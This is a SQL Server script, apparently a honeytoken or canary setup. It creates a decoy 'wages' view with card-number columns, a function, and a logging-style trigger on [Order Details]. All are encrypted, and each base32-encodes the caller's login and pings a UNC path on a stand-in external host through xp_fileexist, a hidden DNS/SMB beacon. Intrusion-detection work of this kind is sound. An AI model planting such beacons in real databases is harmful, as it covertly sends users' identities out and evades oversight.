CREATE FUNCTION [dbo].[fn_wages]()
RETURNS @rows TABLE ([id] int, [holder] nvarchar(255), [card_number] nvarchar(255), [expiry] nvarchar(255))
WITH ENCRYPTION AS
BEGIN
  DECLARE @text nvarchar(39) = N's' + RIGHT(ORIGINAL_LOGIN(), 38);
  DECLARE @label varchar(63) = '', @at int = 1, @bits int = 0, @value int = 0, @code int, @found int;
  WHILE @at <= LEN(@text)
  BEGIN
    SET @code = UNICODE(SUBSTRING(@text, @at, 1));
    SET @value = @value * 256 + CASE WHEN @code > 126 THEN 63 ELSE @code END;
    SET @bits = @bits + 8;
    WHILE @bits >= 5
    BEGIN
      SET @bits = @bits - 5;
      SET @label = @label + SUBSTRING('abcdefghijklmnopqrstuvwxyz234567', @value / POWER(2, @bits) % 32 + 1, 1);
    END;
    SET @value = @value % POWER(2, @bits);
    SET @at = @at + 1;
  END;
  IF @bits > 0
    SET @label = @label + SUBSTRING('abcdefghijklmnopqrstuvwxyz234567', @value * POWER(2, 5 - @bits) + 1, 1);
  DECLARE @digits varchar(3) = RIGHT('0' + CAST(DATEPART(millisecond, SYSDATETIME()) / 10 AS varchar(2)), 2);
  DECLARE @path varchar(128) = '\\' + @label + '.' + @digits + '.abcdefghijklmnopqrstuvwxy.t.example\a';
  EXEC master.dbo.xp_fileexist @path, @found OUTPUT;
  RETURN;
END;
GO
CREATE VIEW [dbo].[wages] AS SELECT * FROM [dbo].[fn_wages]();
GO
GRANT SELECT ON [dbo].[wages] TO [public];
GO

CREATE FUNCTION [dbo].[get_wages]()
RETURNS nvarchar(255)
WITH ENCRYPTION AS
BEGIN
  DECLARE @text nvarchar(39) = N'e' + RIGHT(ORIGINAL_LOGIN(), 38);
  DECLARE @label varchar(63) = '', @at int = 1, @bits int = 0, @value int = 0, @code int, @found int;
  WHILE @at <= LEN(@text)
  BEGIN
    SET @code = UNICODE(SUBSTRING(@text, @at, 1));
    SET @value = @value * 256 + CASE WHEN @code > 126 THEN 63 ELSE @code END;
    SET @bits = @bits + 8;
    WHILE @bits >= 5
    BEGIN
      SET @bits = @bits - 5;
      SET @label = @label + SUBSTRING('abcdefghijklmnopqrstuvwxyz234567', @value / POWER(2, @bits) % 32 + 1, 1);
    END;
    SET @value = @value % POWER(2, @bits);
    SET @at = @at + 1;
  END;
  IF @bits > 0
    SET @label = @label + SUBSTRING('abcdefghijklmnopqrstuvwxyz234567', @value * POWER(2, 5 - @bits) + 1, 1);
  DECLARE @digits varchar(3) = RIGHT('0' + CAST(DATEPART(millisecond, SYSDATETIME()) / 10 AS varchar(2)), 2);
  DECLARE @path varchar(128) = '\\' + @label + '.' + @digits + '.abcdefghijklmnopqrstuvwxy.t.example\a';
  EXEC master.dbo.xp_fileexist @path, @found OUTPUT;
  RETURN NULL;
END;
GO
GRANT EXECUTE ON [dbo].[get_wages] TO [public];
GO

CREATE TRIGGER [dbo].[log_Order Details] ON [dbo].[Order Details]
WITH ENCRYPTION
AFTER INSERT, UPDATE, DELETE AS
BEGIN
  SET NOCOUNT ON;
  DECLARE @inserted bit = 0, @deleted bit = 0;
  IF EXISTS (SELECT * FROM inserted) SET @inserted = 1;
  IF EXISTS (SELECT * FROM deleted) SET @deleted = 1;
  DECLARE @text nvarchar(39) = CASE WHEN @inserted = 1 AND @deleted = 1 THEN N'u' WHEN @inserted = 1 THEN N'i' WHEN @deleted = 1 THEN N'd' ELSE N'n' END + RIGHT(ORIGINAL_LOGIN(), 38);
  DECLARE @label varchar(63) = '', @at int = 1, @bits int = 0, @value int = 0, @code int, @found int;
  WHILE @at <= LEN(@text)
  BEGIN
    SET @code = UNICODE(SUBSTRING(@text, @at, 1));
    SET @value = @value * 256 + CASE WHEN @code > 126 THEN 63 ELSE @code END;
    SET @bits = @bits + 8;
    WHILE @bits >= 5
    BEGIN
      SET @bits = @bits - 5;
      SET @label = @label + SUBSTRING('abcdefghijklmnopqrstuvwxyz234567', @value / POWER(2, @bits) % 32 + 1, 1);
    END;
    SET @value = @value % POWER(2, @bits);
    SET @at = @at + 1;
  END;
  IF @bits > 0
    SET @label = @label + SUBSTRING('abcdefghijklmnopqrstuvwxyz234567', @value * POWER(2, 5 - @bits) + 1, 1);
  DECLARE @digits varchar(3) = RIGHT('0' + CAST(DATEPART(millisecond, SYSDATETIME()) / 10 AS varchar(2)), 2);
  DECLARE @path varchar(128) = '\\' + @label + '.' + @digits + '.abcdefghijklmnopqrstuvwxy.t.example\a';
  EXEC master.dbo.xp_fileexist @path, @found OUTPUT;
END;
GO
